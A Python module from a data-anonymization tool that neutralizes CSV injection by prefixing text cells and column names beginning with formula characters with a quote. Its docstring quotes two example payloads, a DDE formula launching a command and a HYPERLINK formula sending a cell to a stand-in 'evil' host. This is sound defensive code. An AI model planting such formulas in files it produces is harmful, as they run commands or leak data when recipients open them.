"""CSV cells a spreadsheet would run as formulas, neutralized (CSV injection).

A CSV file is data, but Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``,
``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula, and a formula such
as ``=cmd|' /C calc'!A0`` or ``=HYPERLINK("https://evil/?"&A1)`` can run commands or send
neighbouring cells away when the recipient opens the file. Every CSV anonlab writes (``anonlab
apply -o out.csv``, ``anonlab open -o out.csv``, a bundle's ``data.csv``) therefore goes through
:func:`neutralize_csv` unless the caller opts out (``csv_safe=False``, ``--no-csv-safe``), as the
OWASP *CSV Injection* guidance recommends: such a cell is prefixed with a single quote ``'``,
which spreadsheets show as text and do not evaluate.

What is changed, exactly:

- only text: String, Categorical and Enum columns, and the column names in the header row.
  Numbers, dates and booleans are written by polars as plain literals (``-5``, ``2026-01-01``)
  and are never touched;
- a text cell whose first character is one of ``= + - @``, tab, carriage return, or their
  full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), unless the whole cell is a plain decimal
  number (``-5``, ``+1.5e3``), which a spreadsheet reads as that number and cannot evaluate;
- nothing else: a cell is never shortened, and a cell already starting with ``'`` is left as it
  is (it is already shown as text).

A bundle's license states whether its ``data.csv`` was neutralized and how many cells were
changed (``anonymization.release.csv``), so the recipient knows that a leading ``'`` in
``data.csv`` is not in ``data.parquet``.
"""

from __future__ import annotations

import polars as pl

from anonlab._validation import fresh_name

__all__ = ["FORMULA_STARTS", "formula_cells", "neutralize_csv", "neutralize_name"]

FORMULA_STARTS = "=+-@\t\r＝＋－＠"
"""First characters that make a spreadsheet evaluate a cell."""

_STARTS = "^[" + FORMULA_STARTS.replace("-", r"\-").replace("\t", r"\t").replace("\r", r"\r") + "]"
_NUMBER = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$"


def _is_text(dtype: pl.DataType) -> bool:
    return dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)


def _dangerous(expr: pl.Expr) -> pl.Expr:
    return expr.str.contains(_STARTS) & ~expr.str.contains(_NUMBER)


def neutralize_name(name: str) -> str:
    """A column name as it is written in the header row: prefixed with ``'`` when a spreadsheet
    would evaluate it."""
    import re

    if name and name[0] in FORMULA_STARTS and not re.fullmatch(_NUMBER, name):
        return "'" + name
    return name


def neutralize_csv(lf: pl.LazyFrame) -> pl.LazyFrame:
    """``lf`` with every text cell (and column name) a spreadsheet would evaluate prefixed by
    ``'``; other columns unchanged. Lazy: nothing is computed until the query runs.

    Examples
    --------
    >>> import polars as pl
    >>> lf = pl.LazyFrame({"note": ["=1+1", "-5", "ok", "@SUM(A1)"], "n": [-5, 1, 2, 3]})
    >>> neutralize_csv(lf).collect().rows()
    [("'=1+1", -5), ('-5', 1), ('ok', 2), ("'@SUM(A1)", 3)]
    """
    schema = lf.collect_schema()
    exprs = []
    for name, dtype in schema.items():
        if not _is_text(dtype):
            continue
        text = pl.col(name).cast(pl.String)
        exprs.append(pl.when(_dangerous(text)).then(pl.lit("'") + text).otherwise(text).alias(name))
    if exprs:
        lf = lf.with_columns(exprs)
    taken = set(schema.names())
    renamed = {}
    for name in schema.names():
        new = neutralize_name(name)
        if new != name:
            new = fresh_name(taken, new)  # a column already named "'=x" keeps its name
            taken.add(new)
            renamed[name] = new
    return lf.rename(renamed) if renamed else lf


def formula_cells(frame: pl.DataFrame) -> int:
    """How many text cells and column names of ``frame`` :func:`neutralize_csv` would change."""
    cells = 0
    for name, dtype in frame.schema.items():
        if _is_text(dtype):
            cells += int(frame.select(_dangerous(pl.col(name).cast(pl.String)).sum()).item() or 0)
    return cells + sum(neutralize_name(n) != n for n in frame.columns)
